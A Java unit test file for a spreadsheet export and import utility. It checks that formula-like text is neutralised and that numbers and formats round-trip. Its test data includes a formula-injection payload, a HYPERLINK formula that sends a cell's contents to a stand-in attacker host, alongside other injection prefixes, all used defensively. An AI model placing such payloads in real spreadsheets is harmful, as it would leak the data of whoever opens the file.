package cn.lvzhi.common;

import org.dhatim.fastexcel.reader.CellType;
import org.dhatim.fastexcel.reader.ReadableWorkbook;
import org.dhatim.fastexcel.reader.ReadingOptions;
import org.dhatim.fastexcel.reader.Row;
import org.junit.jupiter.api.Test;

import java.io.ByteArrayInputStream;
import java.io.IOException;
import java.math.BigDecimal;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.Set;
import java.util.zip.ZipEntry;
import java.util.zip.ZipFile;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

/**
 * Exported text never acts as a formula in a spreadsheet, an exported sheet imports back unchanged, and formatted
 * numbers stay numbers in their number format.
 */
public class SheetWriterTest {
    static final List<String> FORMULAS = List.of("=HYPERLINK(\"http://evil.example/?d=\"&A1,\"点此查看\")", "@SUM(1)", "-2+3",
            "+86-10-12345678", "\t=1+1", "\r=1+1", "'=1+1");
    static final List<String> PLAIN = List.of("清河区生态环境局", "a=b", "2026-03-15", "");

    static byte[] export(List<String> texts) {
        List<List<Object>> rows = texts.stream().map(t -> List.<Object>of(-5, t)).toList();
        return SheetWriter.table("表", "=标题", List.of("序号", "内容"), rows, new int[] {6, 40});
    }

    @Test
    void textThatLooksLikeAFormulaIsWrittenAsQuotedText() throws IOException {
        try (ReadableWorkbook wb = new ReadableWorkbook(new ByteArrayInputStream(export(FORMULAS)))) {
            List<Row> rows = wb.getFirstSheet().read();
            assertEquals("'=标题", rows.get(0).getCell(0).getText());
            for (int i = 0; i < FORMULAS.size(); i++) {
                Row row = rows.get(i + 2);
                assertEquals("'" + FORMULAS.get(i), row.getCell(1).getText());
                assertFalse(row.getCell(1).getType().name().equals("FORMULA"), row.getCell(1)::toString);
                // numbers stay numbers, negative ones included
                assertEquals(new BigDecimal(-5), row.getCell(0).asNumber());
            }
        }
    }

    @Test
    void ordinaryTextIsWrittenAsIs() throws IOException {
        try (ReadableWorkbook wb = new ReadableWorkbook(new ByteArrayInputStream(export(PLAIN)))) {
            List<Row> rows = wb.getFirstSheet().read();
            for (int i = 0; i < PLAIN.size(); i++) {
                assertEquals(PLAIN.get(i), rows.get(i + 2).getCellText(1));
            }
        }
    }

    @Test
    void anExportedSheetImportsTheOriginalText() {
        List<SheetReader.SheetRow> rows = SheetReader.read(new ByteArrayInputStream(export(FORMULAS)), "内容", Set.of("序号", "内容"), 100, "测试");
        // the reader strips surrounding blanks, as it always has
        assertEquals(FORMULAS.stream().map(String::strip).toList(), rows.stream().map(r -> r.cells().get("内容")).toList());
        assertTrue(rows.stream().allMatch(r -> r.cells().get("序号").equals("-5")), rows::toString);
    }

    @Test
    void formattedNumbersStayNumbersInTheirFormatAcrossSheets() throws IOException {
        List<List<Object>> rows = List.of(java.util.Arrays.asList(1, new SheetWriter.Formatted(new BigDecimal("7.5"), "0.00"),
                new SheetWriter.Formatted(new BigDecimal("0.9607"), "0.00%"), new SheetWriter.Formatted(null, "0.00"), "文字"));
        byte[] xlsx = SheetWriter.workbook(List.of(
                new SheetWriter.Sheet("结果", "标题", List.of("序号", "得分", "比率", "空", "说明"), rows, new int[] {6, 10, 10, 10, 30}),
                new SheetWriter.Sheet("明细", "明细标题", List.of("序号"), List.of(List.of(2)), new int[] {8})));
        try (ReadableWorkbook wb = new ReadableWorkbook(new ByteArrayInputStream(xlsx), new ReadingOptions(true, false))) {
            assertEquals(List.of("结果", "明细"), wb.getSheets().map(org.dhatim.fastexcel.reader.Sheet::getName).toList());
            Row row = wb.getFirstSheet().read().get(2);
            assertEquals(CellType.NUMBER, row.getCell(1).getType());
            assertEquals(0, new BigDecimal("7.5").compareTo(row.getCell(1).asNumber()));
            assertEquals("0.00", row.getCell(1).getDataFormatString());
            assertEquals(CellType.NUMBER, row.getCell(2).getType());
            assertEquals("0.00%", row.getCell(2).getDataFormatString());
            assertEquals("", row.getCellText(3));
            // a plain number keeps the general format, as every other sheet of the product has it
            assertEquals(CellType.NUMBER, row.getCell(0).getType());
            assertFalse("0.00".equals(row.getCell(0).getDataFormatString()));
            assertEquals("文字", row.getCellText(4));
        }
        String sheet = part(xlsx, "xl/worksheets/sheet1.xml");
        assertTrue(sheet.contains("ySplit=\"2\"") && sheet.contains("state=\"frozen\""), "title and header rows frozen: " + sheet);
        assertTrue(sheet.contains("width=\"30"), "column widths: " + sheet);
    }

    /** One part of the .xlsx package as text (read from a file: the writer streams its entries with data descriptors). */
    public static String part(byte[] xlsx, String name) throws IOException {
        Path file = Files.createTempFile("sheet", ".xlsx");
        try {
            Files.write(file, xlsx);
            try (ZipFile zip = new ZipFile(file.toFile())) {
                ZipEntry entry = zip.getEntry(name);
                if (entry == null) {
                    throw new IllegalStateException("no part " + name);
                }
                return new String(zip.getInputStream(entry).readAllBytes(), StandardCharsets.UTF_8);
            }
        } finally {
            Files.delete(file);
        }
    }
}
